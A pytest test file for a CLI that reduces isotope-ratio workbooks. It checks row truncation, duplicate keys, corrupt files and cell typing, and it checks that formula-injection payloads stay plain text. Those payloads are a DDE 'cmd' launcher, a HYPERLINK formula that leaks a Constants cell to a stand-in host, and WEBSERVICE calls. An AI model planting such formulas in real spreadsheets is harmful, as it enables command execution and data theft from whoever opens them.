"""Issue 10 on the batch path: no row dropped, no text turned into a formula, no duplicate key taken
silently, no traceback on a foreign file, no logical value read as a number.

Every test goes the user's way: it writes a workbook (``build_layout`` + ``write_xlsx`` or the .ods
writer), runs ``ratiodesk reduce BOOK -o DIR`` through :func:`reduction.workbook.cli.main`, reads the exit
status, stderr and ``results.xlsx``, and checks that the input file's bytes are unchanged.
"""
from __future__ import annotations

import copy
import hashlib
import os
import re
import sys
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

import reduction.workbook.demo as demo
from reduction.workbook import (
    CAPACITY_CELL,
    CONSTANTS,
    FIRST_ROW,
    MAX_DATA_ROWS,
    MAX_SHEET_ROW,
    MEASURED,
    ORPHAN_CELL,
    RESULTS,
    SAMPLES,
    SPIKES,
    STANDARDS,
    CellSpec,
    Formula,
    build_layout,
    col_letter,
    evaluate,
    expected_formulas,
    layout_grid,
    orphan_message,
    read_workbook,
    write_xlsx,
)
from reduction.workbook.cli import main

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "templates"))
from odswriter import write_ods  # noqa: E402

FORMATS = ("xlsx", "ods")


# --------------------------------------------------------------------------------------------
# helpers: the user's path
# --------------------------------------------------------------------------------------------
def _write(tables, path, selection=None, constants=None, edit=None):
    lay = build_layout(tables, constants=constants or demo.demo_constants(),
                       isochron_selection=demo.demo_selection() if selection is None else selection)
    if edit:
        edit(lay)
    (write_xlsx if str(path).endswith(".xlsx") else write_ods)(lay, path)
    return path


def _digest(path):
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


def _reduce(path, out, capsys):
    """(exit status, stdout, stderr) of ``ratiodesk reduce``; the input's bytes must not change."""
    before = _digest(path)
    rc = main(["reduce", str(path), "-o", str(out)])
    captured = capsys.readouterr()
    assert _digest(path) == before, "the input workbook was written to"
    return rc, captured.out, captured.err


def _fails(path, tmp_path, capsys):
    """Run reduce on a bad workbook: exit 1, no traceback, nothing written; stderr is returned."""
    rc, _out, err = _reduce(path, tmp_path / "o", capsys)
    assert rc == 1, err
    assert "Traceback" not in err
    assert not (tmp_path / "o" / "results.xlsx").exists()
    return err


def _cloned(n):
    """The demo tables with the analyses cloned under new IDs up to ``n`` analyses (Measured runs too)."""
    t = copy.deepcopy(demo.demo_tables())
    base_s, base_m, base_c = t["Samples"], t["Measured"], t["Cycles"]
    samples, measured = list(base_s), list(base_m)
    k = 0
    while len(samples) < n:
        src = base_s[k % len(base_s)]
        new = f"{src['analysis']}-c{k:05d}"
        samples.append(dict(src, analysis=new))
        measured += [dict(m, analysis=new) for m in base_m if m["analysis"] == src["analysis"]]
        k += 1
    # the runs given as cycles are cloned as their run means (the Cycles sheet holds 600 rows in Calc)
    runs = {(r[0], r[1]): r for r in _demo_runs()}
    for m in measured:
        key = (m["analysis"].split("-c")[0], m["element"])
        if not m.get("r1_name") and key in runs:
            r = runs[key]
            for j in range(6):
                if r[4 + 3 * j]:
                    m[f"r{j + 1}_name"], m[f"r{j + 1}"], m[f"r{j + 1}_sigma_1s"] = r[4 + 3 * j:7 + 3 * j]
    t["Samples"], t["Measured"] = samples, measured
    t["Cycles"] = [] if len(samples) > len(base_s) else base_c
    return t


def _demo_runs():
    from reduction.workbook import CONSTANTS, CYCLES, cycle_runs
    t = demo.demo_tables()
    cyc = [tuple(c.key for c in CYCLES.columns if not c.computed)] + [
        tuple(r.get(c.key, "") for c in CYCLES.columns if not c.computed) for r in t["Cycles"]]
    con = [tuple(c.key for c in CONSTANTS.columns)] + [tuple(r.get(c.key, "") for c in CONSTANTS.columns)
                                                          for r in demo.demo_constants()]
    return [r for r in cycle_runs(cyc, con) if r[0]]


def _results(out):
    """Results rows of results.xlsx as dicts by column key (every filled row)."""
    wb = load_workbook(Path(out) / "results.xlsx", read_only=True)
    keys = [c.key for c in RESULTS.columns]
    rows = []
    for r in wb["Results"].iter_rows(min_row=FIRST_ROW, values_only=True):
        if r and r[0] not in (None, ""):
            rows.append(dict(zip(keys, r)))
    wb.close()
    return rows


def _row_of(tables, sheet, **match):
    for k, r in enumerate(tables[sheet]):
        if all(r.get(key) == v for key, v in match.items()):
            return k
    raise AssertionError(match)


# --------------------------------------------------------------------------------------------
# 1. no silent truncation
# --------------------------------------------------------------------------------------------
@pytest.mark.parametrize("fmt", FORMATS)
def test_every_filled_row_is_reduced_beyond_the_template_rows(tmp_path, capsys, fmt):
    n = 200     # Samples holds 60 template rows, Measured 120: both are exceeded
    tables = _cloned(n)
    assert len(tables["Samples"]) > SAMPLES.capacity and len(tables["Measured"]) > MEASURED.capacity
    book = _write(tables, tmp_path / f"big.{fmt}")
    rc, out, err = _reduce(book, tmp_path / "o", capsys)
    assert rc == 0, err
    rows = _results(tmp_path / "o")
    assert [r["analysis"] for r in rows] == [s["analysis"] for s in tables["Samples"]]
    # a clone has the inputs of its original, so it must have its results (common practice: the same
    # inputs give the same numbers); row 61 onwards would be missing or empty if rows were dropped
    first = {r["analysis"]: r for r in rows[:len(demo.demo_tables()["Samples"])]}
    for r in rows[SAMPLES.capacity:]:
        orig = first[r["analysis"].rsplit("-c", 1)[0]]
        assert isinstance(r["x"], float) and r["x"] == orig["x"] and r["y"] == orig["y"]
        assert r["check"] == orig["check"]


def test_a_standards_run_below_the_template_rows_enters_the_session_factor(tmp_path, capsys):
    tables = copy.deepcopy(demo.demo_tables())
    std = tables["Standards"]
    session, ratio = std[0]["session"], std[0]["ratio"]
    primary = [r for r in std if r["session"] == session and r["ratio"] == ratio and r["role"] == ""]
    # fill the template's 120 Standards rows with runs of other sessions, then put one more run of the
    # primary below them
    filler = [dict(std[0], session=f"FILL-{k:03d}", run=f"filler {k}") for k in range(STANDARDS.capacity)]
    extra = dict(primary[0], measured=primary[0]["measured"] * (1 + 4e-5), run="late run")
    tables["Standards"] = std + filler + [extra]
    assert len(tables["Standards"]) > STANDARDS.capacity
    book = _write(tables, tmp_path / "std.xlsx")
    rc, _out, err = _reduce(book, tmp_path / "o", capsys)
    assert rc == 0, err
    accepted = next(r["value"] for r in demo.demo_constants() if r["key"] == f"rm.{primary[0]['material']}.{ratio}")
    runs = [r["measured"] for r in primary] + [extra["measured"]]
    want = accepted / (sum(runs) / len(runs))     # session factor = accepted / mean of the primary's runs (README)
    wb = load_workbook(tmp_path / "o" / "results.xlsx", read_only=True)
    col = STANDARDS.col_index("factor")
    got = [r[col] for r in wb["Standards"].iter_rows(min_row=FIRST_ROW, values_only=True)
           if r and r[0] == session and r[1] == primary[0]["material"]]
    assert len(got) == len(primary) + 1            # the late run's row is written too
    assert got == pytest.approx([want] * len(got), rel=1e-14)


def _ods_with_extra_rows(path, rows_xml):
    """An .ods copy whose Samples table ends with ``rows_xml`` (content.xml rewritten, nothing else)."""
    with zipfile.ZipFile(path) as z:
        items = [(i, z.read(i.filename)) for i in z.infolist()]
    out = path.with_name("extra-" + path.name)
    with zipfile.ZipFile(out, "w") as z:
        for info, data in items:
            if info.filename == "content.xml":
                text = data.decode("utf-8")
                start = text.index('<table:table table:name="Samples"')
                end = text.index("</table:table>", start)
                data = (text[:end] + rows_xml + text[end:]).encode("utf-8")
            z.writestr(info, data)
    return out


def _xlsx_with_extra_rows(path, sheet_name, first_row, n):
    """An .xlsx copy with ``n`` filled rows from ``first_row`` appended to one sheet's XML."""
    with zipfile.ZipFile(path) as z:
        items = [(i, z.read(i.filename)) for i in z.infolist()]
        wbxml = z.read("xl/workbook.xml").decode()
    names = re.findall(r'<sheet [^>]*name="([^"]+)"', wbxml)
    part = f"xl/worksheets/sheet{names.index(sheet_name) + 1}.xml"
    rows = "".join(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>x{r}</t></is></c></row>'
                   for r in range(first_row, first_row + n))
    out = path.with_name("extra-" + path.name)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info, data in items:
            if info.filename == part:
                text = data.decode("utf-8")
                text = re.sub(r"<dimension [^>]*/>", "", text)
                data = text.replace("</sheetData>", rows + "</sheetData>").encode("utf-8")
            z.writestr(info.filename, data)
    return out


def test_a_million_repeated_ods_rows_are_refused_naming_sheet_count_limit(tmp_path, capsys):
    book = _write(demo.demo_tables(), tmp_path / "d.ods")
    extra = ('<table:table-row table:number-rows-repeated="1000000"><table:table-cell office:value-type="string">'
             "<text:p>RX</text:p></table:table-cell></table:table-row>")
    book = _ods_with_extra_rows(book, extra)
    err = _fails(book, tmp_path, capsys)
    assert len(err.strip().splitlines()) == 1
    assert f"Samples, row {MAX_SHEET_ROW + 1}:" in err and f"{MAX_DATA_ROWS:,}" in err and "split the workbook" in err
    # the filled rows are counted, repeated ones too: the demo's analyses and the million repeated rows
    assert f"{len(demo.demo_tables()['Samples']) + 1_000_000:,} filled data rows" in err


def test_a_million_extra_xlsx_rows_are_refused_without_reading_them_all(tmp_path, capsys):
    book = _write(demo.demo_tables(), tmp_path / "d.xlsx")
    book = _xlsx_with_extra_rows(book, "Measured", MEASURED.last_row + 1, 1_000_000)
    err = _fails(book, tmp_path, capsys)
    assert len(err.strip().splitlines()) == 1
    assert f"Measured, row {MAX_SHEET_ROW + 1}:" in err
    assert f"more than the {MAX_DATA_ROWS:,}" in err and "split the workbook" in err


def test_rows_below_the_template_rows_are_read_and_reported_not_dropped(tmp_path, capsys):
    # 150 stray rows below the template's Samples rows (IDs only): every one is read and reported,
    # the first 100 line by line and the rest counted
    book = _write(demo.demo_tables(), tmp_path / "d.xlsx")
    book = _xlsx_with_extra_rows(book, "Samples", SAMPLES.last_row + 1, 150)
    err = _fails(book, tmp_path, capsys)
    assert "150 problem(s); nothing was written" in err and "… and 50 more problem(s)" in err
    assert f"Samples, row {SAMPLES.last_row + 1}, column D (System): is empty" in err


def test_template_extent_names_the_first_row_calc_does_not_reduce():
    tables = _cloned(SAMPLES.capacity + 6)
    grid = layout_grid(build_layout(tables, constants=demo.demo_constants(),
                                    isochron_selection=demo.demo_selection()))
    ev = evaluate(grid, strict=False, extent="template")
    msgs = [str(e) for e in ev.errors]
    assert f"Samples, row {SAMPLES.last_row + 1}: 6 filled row(s) below row {SAMPLES.last_row}" in msgs[0]
    assert "LibreOffice Calc does not reduce them" in msgs[0]
    # the data extent reduces them all
    ev = evaluate(grid, strict=False)
    assert not ev.errors
    assert ev.cells[("Results", SAMPLES.last_row + 6, 0)] == tables["Samples"][-1]["analysis"]


def test_the_template_tells_a_calc_user_about_rows_below_its_formula_rows(tmp_path):
    # the capacity cell is a native formula (no add-in): counts of filled cells below each table's rows
    path = tmp_path / "t.xlsx"
    write_xlsx(build_layout(), path)
    data = read_workbook(path)
    sheet, row, col = CAPACITY_CELL
    assert (sheet, row) == ("Results", RESULTS.last_row + 1)
    text = data.formulas[CAPACITY_CELL]
    for sh in (SAMPLES, MEASURED, SPIKES, STANDARDS, CONSTANTS):
        rng = f"{sh.name}!$A${sh.last_row + 1}:${col_letter(sh.input_width - 1)}$1048576"
        assert f"COUNTA({rng})" in text
    assert expected_formulas()[CAPACITY_CELL].addin is False


@pytest.mark.parametrize("fmt", FORMATS)
def test_runs_of_an_analysis_missing_on_samples_are_named_not_skipped(tmp_path, capsys, fmt):
    tables = copy.deepcopy(demo.demo_tables())
    extra = copy.deepcopy(tables["Measured"][0])
    extra["analysis"] = "XX-404"        # a typo'd ID: matches no Samples row
    tables["Measured"].append(extra)
    path = _write(tables, tmp_path / f"b.{fmt}")
    rc, out, _err = _reduce(path, tmp_path / "o", capsys)
    assert rc == 0
    row = FIRST_ROW + len(tables["Measured"]) - 1
    assert f"warning: Measured!A{row}: the run of analysis 'XX-404' (element '{extra['element']}') matches " \
           "no analysis on Samples and is not reduced" in out
    # the template's own cell (what Calc shows) and its native formula
    ev = evaluate(layout_grid(build_layout(tables, constants=demo.demo_constants(),
                                           isochron_selection=demo.demo_selection())), extent="template")
    assert ev.cells[ORPHAN_CELL] == orphan_message(1)
    text = expected_formulas()[ORPHAN_CELL].render("Results", "xlsx")
    assert f"MATCH(TRIM(Measured!$A${FIRST_ROW}:$A${MEASURED.last_row}),TRIM(Samples!$A${FIRST_ROW}:" \
           f"$A${SAMPLES.last_row}),0)" in text
    # the demo itself has none
    assert evaluate(layout_grid(demo.demo_layout()), extent="template").cells[ORPHAN_CELL] == ""


# --------------------------------------------------------------------------------------------
# 2. formula injection: text stays text
# --------------------------------------------------------------------------------------------
PAYLOADS = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://x?leak="&Constants!C6,"click me")', "+1+1", "-1+1",
            "@SUM(1)", "\t=1", "\r=1", '=WEBSERVICE("http://x")')
#: what a formula made of a payload would contain (the short "=1" payloads are checked as text below)
PAYLOAD_CORES = ("cmd|", "HYPERLINK", "1+1", "SUM(1)", "WEBSERVICE")
#: text that matplotlib would read as mathtext (and fail on) if the report did not print it as typed
REPORT_PAYLOADS = ("$\\notacommand{x}$", "#N/A", "_x0041_")


def _payload_tables():
    tables = copy.deepcopy(demo.demo_tables())
    corpus = PAYLOADS + REPORT_PAYLOADS
    for k, s in enumerate(tables["Samples"]):
        s["sample"] = corpus[k % len(corpus)]
        s["fraction"] = corpus[(k + 3) % len(corpus)]
    tables["Spikes"][0]["calibrated"] = PAYLOADS[1]
    return tables


def _payload_constants():
    rows = demo.demo_constants()
    rows[1] = dict(rows[1], note=PAYLOADS[0], source=PAYLOADS[7])
    return rows


def _xml_parts(path):
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml")}


def _unxml(s):
    return (s.replace("&quot;", '"').replace("&apos;", "'").replace("&lt;", "<").replace("&gt;", ">")
            .replace("&amp;", "&"))


def _no_payload_formula(path):
    """No formula element of the file holds a payload (xlsx ``<f>``, ods ``table:formula``)."""
    for name, xml in _xml_parts(path).items():
        formulas = [_unxml(f) for f in re.findall(r"<f[^>]*>(.*?)</f>", xml, re.S)]
        formulas += [_unxml(f) for f in re.findall(r'table:formula="([^"]*)"', xml)]
        for f in formulas:
            for core in PAYLOAD_CORES:
                assert core not in f, (name, f)


@pytest.mark.parametrize("fmt", FORMATS)
def test_text_that_looks_like_a_formula_stays_text_end_to_end(tmp_path, capsys, fmt):
    tables = _payload_tables()
    book = _write(tables, tmp_path / f"p.{fmt}", constants=_payload_constants())
    _no_payload_formula(book)                                  # the input as our writers store it
    data = read_workbook(book)                                 # ... and as the readers read it
    col = SAMPLES.col_index("sample")
    for k, s in enumerate(tables["Samples"]):
        v = data.grid["Samples"][FIRST_ROW - 1 + k][col]
        assert type(v) is str and v == s["sample"]
    assert not any(any(core in f for core in PAYLOAD_CORES) for f in data.formulas.values())

    rc, _out, err = _reduce(book, tmp_path / "o", capsys)
    assert rc == 0, err
    results = tmp_path / "o" / "results.xlsx"
    _no_payload_formula(results)
    xml = _xml_parts(results)
    sheets = [x for n, x in xml.items() if n.startswith("xl/worksheets/")]
    assert sheets and not any(re.search(r"<f[ >]", x) for x in sheets)       # values only: no cell formula at all
    wb = load_workbook(results)                                               # full mode: sees data types
    ws = wb["Results"]
    for k, s in enumerate(tables["Samples"]):
        for key in ("sample", "fraction"):
            cell = ws.cell(FIRST_ROW + k, RESULTS.col_index(key) + 1)
            assert cell.data_type == "s"
            got = cell.value.replace("_x000D_", "\r").replace("_x005F_", "_")   # ST_Xstring escapes (ECMA-376)
            assert got == s[key]
    # and through the project's reader: verbatim
    back = read_workbook(results)
    for k, s in enumerate(tables["Samples"]):
        assert back.grid["Results"][FIRST_ROW - 1 + k][RESULTS.col_index("sample")] == s["sample"]
    prov = {c.value for r in wb["Provenance"].iter_rows() for c in r if c.data_type == "s"}
    assert {PAYLOADS[0], PAYLOADS[7], PAYLOADS[1]} <= prov


def test_a_real_formula_in_an_input_cell_is_read_as_a_formula_not_as_text(tmp_path):
    path = tmp_path / "f.xlsx"
    lay = build_layout(demo.demo_tables(), constants=demo.demo_constants(), isochron_selection=demo.demo_selection())
    lay["Samples"][(FIRST_ROW, SAMPLES.col_index("sample"))] = CellSpec("=not a formula")
    lay["Samples"][(FIRST_ROW + 1, SAMPLES.col_index("sample"))] = CellSpec(
        formula=Formula("CONCATENATE", ("HM", "-07"), addin=False))
    write_xlsx(lay, path)
    data = read_workbook(path)
    col = SAMPLES.col_index("sample")
    assert data.grid["Samples"][FIRST_ROW - 1][col] == "=not a formula"
    assert ("Samples", FIRST_ROW, col) not in data.formulas
    assert data.formulas[("Samples", FIRST_ROW + 1, col)] == '=CONCATENATE("HM","-07")'


# --------------------------------------------------------------------------------------------
# 3. duplicate keys
# --------------------------------------------------------------------------------------------
def _dup_case(kind):
    t = copy.deepcopy(demo.demo_tables())
    if kind == "samples":
        t["Samples"][4]["analysis"] = t["Samples"][1]["analysis"]
        return t, "Samples", 4, 1
    if kind == "spikes":
        t["Spikes"].append(dict(t["Spikes"][0]))
        return t, "Spikes", len(t["Spikes"]) - 1, 0
    if kind == "measured":
        t["Measured"].append(dict(t["Measured"][2]))
        return t, "Measured", len(t["Measured"]) - 1, 2
    t["Standards"].append(dict(t["Standards"][1]))
    return t, "Standards", len(t["Standards"]) - 1, 1


@pytest.mark.parametrize("kind", ["samples", "spikes", "measured", "standards"])
def test_a_duplicate_key_stops_the_run_naming_both_rows(tmp_path, capsys, kind):
    tables, sheet, second, first = _dup_case(kind)
    err = _fails(_write(tables, tmp_path / "dup.xlsx"), tmp_path, capsys)
    line = next(x for x in err.splitlines() if x.strip().startswith(f"{sheet}, row {FIRST_ROW + second},"))
    assert f"row {FIRST_ROW + first}" in line, line


def test_a_constants_key_given_twice_and_an_isochron_row_listed_twice(tmp_path, capsys):
    rows = demo.demo_constants()
    k = next(i for i, r in enumerate(rows) if r["key"] == "decay.Sm147")
    rows.append(dict(rows[k], value=rows[k]["value"] * 1.01))
    err = _fails(_write(demo.demo_tables(), tmp_path / "c.xlsx", constants=rows), tmp_path, capsys)
    assert (f"Constants, row {FIRST_ROW + len(rows) - 1}, column A (Key): the key 'decay.Sm147' is given twice "
            f"(first on row {FIRST_ROW + k})") in err
    sel = demo.demo_selection()
    sel["Sm-Nd"] = sel["Sm-Nd"][:3] + [sel["Sm-Nd"][0]]
    err = _fails(_write(demo.demo_tables(), tmp_path / "s.xlsx", selection=sel), tmp_path, capsys)
    assert f"Isochron, row {FIRST_ROW + 3}, column A (Analysis): analysis {sel['Sm-Nd'][0][0]!r} is listed twice " \
           f"(first on row {FIRST_ROW})" in err


# --------------------------------------------------------------------------------------------
# 7. corrupt or foreign files
# --------------------------------------------------------------------------------------------
def _ole(extra=b""):
    # MS-CFB: a compound file starts with the signature D0 CF 11 E0 A1 B1 1A E1; an encrypted OOXML
    # package is such a file with the streams "EncryptionInfo" and "EncryptedPackage" (MS-OFFCRYPTO),
    # whose directory entries store the names in UTF-16LE
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + extra + b"\x00" * 1024


def _foreign(kind, tmp_path):
    good = {"xlsx": _write(demo.demo_tables(), tmp_path / "good.xlsx"),
            "ods": _write(demo.demo_tables(), tmp_path / "good.ods")}
    if kind == "empty.xlsx":
        data = b""
    elif kind == "truncated.xlsx":
        data = good["xlsx"].read_bytes()[: good["xlsx"].stat().st_size // 2]
    elif kind == "truncated.ods":
        data = good["ods"].read_bytes()[: good["ods"].stat().st_size // 2]
    elif kind == "random.ods":
        data = bytes((i * 7919 + 13) % 256 for i in range(5000))
    elif kind == "csv.xlsx":
        data = b"analysis,sample,system\nSN-01,HM-07,Sm-Nd\n"
    elif kind == "nocontent.ods":
        p = tmp_path / "nc.zip"
        with zipfile.ZipFile(p, "w") as z:
            z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
            z.writestr("META-INF/manifest.xml", "<manifest/>")
        data = p.read_bytes()
    elif kind == "encrypted.xlsx":
        data = _ole("EncryptionInfo".encode("utf-16-le") + b"\x00" * 50 + "EncryptedPackage".encode("utf-16-le"))
    elif kind == "old.xls":
        data = _ole("Workbook".encode("utf-16-le"))
    elif kind == "oldxls.xlsx":
        data = _ole("Workbook".encode("utf-16-le"))
    elif kind == "badxml.xlsx":
        with zipfile.ZipFile(good["xlsx"]) as z:
            items = {n: z.read(n) for n in z.namelist()}
        items["xl/worksheets/sheet5.xml"] = b"<worksheet><sheetData><row r='1'><c r='A1'"
        p = tmp_path / "bx.zip"
        with zipfile.ZipFile(p, "w") as z:
            for n, d in items.items():
                z.writestr(n, d)
        data = p.read_bytes()
    else:   # an .xlsx named .ods
        data = good["xlsx"].read_bytes()
    path = tmp_path / kind
    path.write_bytes(data)
    return path


@pytest.mark.parametrize("kind", ["empty.xlsx", "truncated.xlsx", "truncated.ods", "random.ods", "csv.xlsx",
                                  "nocontent.ods", "encrypted.xlsx", "old.xls", "oldxls.xlsx", "badxml.xlsx",
                                  "xlsx-as.ods"])
def test_a_corrupt_or_foreign_file_gives_one_readable_line(tmp_path, capsys, kind):
    path = _foreign(kind, tmp_path)
    err = _fails(path, tmp_path, capsys)
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    assert lines[0].startswith("ratiodesk reduce: error: ") and str(path) in lines[0]
    want = {"empty.xlsx": "empty (0 bytes)", "truncated.xlsx": "damaged", "truncated.ods": "damaged",
            "random.ods": "not a zip archive", "csv.xlsx": "a text file (a CSV", "nocontent.ods": "no content.xml",
            "encrypted.xlsx": "password-protected", "old.xls": "an .xls workbook cannot be reduced",
            "oldxls.xlsx": "Office 97-2003 document", "badxml.xlsx": "cannot be read",
            "xlsx-as.ods": "an .xlsx workbook named .ods"}[kind]
    assert want in lines[0], lines[0]


def test_a_missing_file_is_one_line_too(tmp_path, capsys):
    rc = main(["reduce", str(tmp_path / "none.xlsx"), "-o", str(tmp_path / "o")])
    err = capsys.readouterr().err
    assert rc == 1 and len(err.strip().splitlines()) == 1 and "none.xlsx" in err and "Traceback" not in err


# --------------------------------------------------------------------------------------------
# 8. cells that are not what they seem
# --------------------------------------------------------------------------------------------
def _with(tables_edit=None, constants_edit=None, selection=None):
    t = copy.deepcopy(demo.demo_tables())
    c = demo.demo_constants()
    if tables_edit:
        tables_edit(t)
    if constants_edit:
        constants_edit(c)
    return t, c, selection


def _cell(sheet, k, key):
    header = sheet.columns[sheet.col_index(key)].header
    return f"{sheet.name}, row {FIRST_ROW + k}, column {sheet.letter(key)} ({header})"


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("truth", [True, False])
def test_a_logical_value_in_a_number_cell_is_not_read_as_one_or_zero(tmp_path, capsys, fmt, truth):
    def edit(t):
        t["Samples"][2]["sample_mass_g"] = truth
        t["Spikes"][1]["conc_sigma_1s"] = truth
    t, c, _s = _with(edit)
    err = _fails(_write(t, tmp_path / f"b.{fmt}", constants=c), tmp_path, capsys)
    word = "TRUE" if truth else "FALSE"
    assert f"{_cell(SAMPLES, 2, 'sample_mass_g')}: is {word} (a logical value), not a number" in err
    assert f"{_cell(SPIKES, 1, 'conc_sigma_1s')}: is {word} (a logical value), not a number" in err


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_formula_in_a_mass_cell_is_reported_as_a_formula_not_as_empty(tmp_path, capsys, fmt):
    def edit(lay):
        lay["Samples"][(FIRST_ROW + 3, SAMPLES.col_index("spike_mass_g"))] = CellSpec(
            formula=Formula("SUM", (0.05, 0.01), addin=False), value=0.06)
    t = demo.demo_tables()
    err = _fails(_write(t, tmp_path / f"f.{fmt}", edit=edit), tmp_path, capsys)
    line = next(x for x in err.splitlines() if _cell(SAMPLES, 3, "spike_mass_g") in x)
    assert "holds a formula" in line and "SUM(0.05" in line and "empty" not in line


def test_a_formula_showing_nothing_leaves_its_row_empty(tmp_path, capsys):
    # a helper formula that shows "" in an otherwise empty row (its cached value is empty) is what the
    # user sees: an empty row, not a problem
    def edit(lay):
        row = FIRST_ROW + len(demo.demo_tables()["Samples"]) + 2
        lay["Samples"][(row, SAMPLES.col_index("sample"))] = CellSpec(
            formula=Formula("IF", (1.0, "", "x"), addin=False), value="")
    rc, _o, err = _reduce(_write(demo.demo_tables(), tmp_path / "h.ods", edit=edit), tmp_path / "o", capsys)
    assert rc == 0, err


@pytest.mark.parametrize("key,value", [("sample_mass_g", 0.0), ("spike", 0.0), ("session", 0.0),
                                       ("system", 0.0)])
def test_a_typed_zero_is_never_reported_as_empty(tmp_path, capsys, key, value):
    def edit(t):
        t["Samples"][1][key] = value
    t, c, _s = _with(edit)
    err = _fails(_write(t, tmp_path / "z.xlsx", constants=c), tmp_path, capsys)
    lines = [x for x in err.splitlines() if f"Samples, row {FIRST_ROW + 1}" in x]
    assert lines and not any("empty" in x for x in lines), lines
    assert any("0" in x.split(":", 1)[1] for x in lines)


def test_a_10000_character_id_is_shortened_in_every_message(tmp_path, capsys):
    long_id = "Q" * 10_000

    def edit(t):
        t["Samples"][0]["analysis"] = long_id        # its runs on Measured keep the old ID: no run found
        t["Samples"][1]["spike"] = "S" * 10_000
    t, c, _s = _with(edit)
    err = _fails(_write(t, tmp_path / "long.xlsx", constants=c), tmp_path, capsys)
    assert "'" + "Q" * 40 + "'… (10000 characters)" in err
    assert "'" + "S" * 40 + "'… (10000 characters)" in err
    assert max(len(x) for x in err.splitlines()) < 600


@pytest.mark.parametrize("system,problem", [("U-Pb", "unknown isotope system 'U-Pb': type one of Sm-Nd, Lu-Hf, "
                                                     "Rb-Sr"),
                                            ("K-Ar", "unknown isotope system 'K-Ar': type one of Sm-Nd, Lu-Hf, Rb-Sr")])
def test_an_unknown_system_is_named_at_its_cell(tmp_path, capsys, system, problem):
    def edit(t):
        t["Samples"][4]["system"] = system
    t, c, _s = _with(edit)
    err = _fails(_write(t, tmp_path / "sys.xlsx", constants=c), tmp_path, capsys)
    assert f"{_cell(SAMPLES, 4, 'system')}: {problem}" in err


def _const_row(rows, key):
    return next(i for i, r in enumerate(rows) if r["key"] == key)


@pytest.mark.parametrize("key,field,value,column,problem", [
    ("decay.Sm147", "value", -6.54e-12, "C (Value)", "decay.Sm147: override must have value > 0"),
    ("decay.Sm147", "value", "fast", "C (Value)", "is not a number: 'fast'"),
    ("decay.Sm147", "value", True, "C (Value)", "is TRUE (a logical value), not a number"),
    ("CHUR.143Nd/144Nd", "sigma_1s", -1e-6, "D (1σ (abs))", "override must have value > 0 and sigma >= 0"),
    ("rm.JNdi-1.143Nd/144Nd", "value", 0.0, "C (Value)", "rm.JNdi-1.143Nd/144Nd must be > 0, got 0.0"),
    ("lab.weighing_1s_g", "value", -1.0, "C (Value)", "lab.weighing_1s_g must be >= 0"),
    ("set", "value", "no-such-set", "C (Value)", "reference set"),
])
def test_a_bad_constants_value_is_named_at_its_row_and_column(tmp_path, capsys, key, field, value, column, problem):
    rows = demo.demo_constants()
    k = _const_row(rows, key)
    rows[k] = dict(rows[k], **{field: value})
    err = _fails(_write(demo.demo_tables(), tmp_path / "k.xlsx", constants=rows), tmp_path, capsys)
    assert f"Constants, row {FIRST_ROW + k}, column {column}: " in err, err
    line = next(x for x in err.splitlines() if f"Constants, row {FIRST_ROW + k}, column {column}: " in x)
    assert problem in line, line


def test_an_unknown_constants_key_of_the_reference_set_is_named(tmp_path, capsys):
    rows = demo.demo_constants()
    k = _const_row(rows, "decay.Sm147")
    rows[k] = dict(rows[k], key="decay.Sm999")
    err = _fails(_write(demo.demo_tables(), tmp_path / "k.xlsx", constants=rows), tmp_path, capsys)
    assert f"Constants, row {FIRST_ROW + k}, column A (Key): 'decay.Sm999': unknown decay constant" in err


def test_an_unknown_treatment_and_ids_below_the_selection_are_named(tmp_path, capsys):
    def edit(lay):
        from reduction.workbook import ISOCHRON_SUMMARY_COL, ISOCHRON_TREATMENT_ROW
        lay["Isochron"][(ISOCHRON_TREATMENT_ROW, ISOCHRON_SUMMARY_COL + 1)].value = "robust"
        lay["Isochron"][(40, 0)] = CellSpec("SN-01")
    err = _fails(_write(demo.demo_tables(), tmp_path / "t.xlsx", edit=edit), tmp_path, capsys)
    assert "Isochron, row 6, column J (Scatter treatment): Sm-Nd: unknown treatment 'robust'" in err
    assert "Isochron, row 40, column A (Analysis): 'SN-01' is below the selection blocks" in err


def test_a_text_the_output_file_cannot_hold_is_refused_not_cut(tmp_path, capsys):
    # an .ods cell may hold more text than an .xlsx cell (32 767 characters); results.xlsx must not cut it
    def edit(t):
        t["Samples"][0]["sample"] = "L" * 40_000
    t, c, _s = _with(edit)
    err = _fails(_write(t, tmp_path / "big.ods", constants=c), tmp_path, capsys)
    assert "40,000 characters" in err and "at most 32,767" in err and "Samples!B5" in err


def test_input_bytes_and_mtime_are_untouched_by_a_successful_run(tmp_path, capsys):
    book = _write(demo.demo_tables(), tmp_path / "ok.ods")
    st = os.stat(book)
    rc, _o, err = _reduce(book, tmp_path / "o", capsys)
    assert rc == 0, err
    assert os.stat(book).st_mtime_ns == st.st_mtime_ns


def _nd_row(t, analysis="SN-01"):
    return next(k for k, r in enumerate(t["Measured"]) if r["analysis"] == analysis and r["element"] == "Nd")


@pytest.mark.parametrize("change,key,problem", [
    ({"ion": "NdO"}, "ion", "'NdO': type metal (or leave empty) or oxide"),
    ({"ion": "oxide"}, "ion", "oxide run: an oxide run needs every Nd isotope"),
    ({"r5_name": "147Sm/144Nd", "r5": 1e-5, "r5_sigma_1s": 1e-7, "ion": "oxide"}, "ion",
     "an oxide run with monitor ratios is not reduced here"),
    ({"r5_name": "147Sm/144Nd", "r5": 1e-5, "r5_sigma_1s": 0.0}, "r5_sigma_1s", "must be > 0"),
    ({"r5_name": "85Rb/86Sr", "r5": 1e-5, "r5_sigma_1s": 1e-7}, "r5_name",
     "'85Rb/86Sr' is not a Nd ratio to 144Nd: write it as <isotope>/144Nd with one of 142Nd, 143Nd, 145Nd, 146Nd, "
     "148Nd, 150Nd, or a monitor ratio: 147Sm/144Nd, 140Ce/144Nd"),
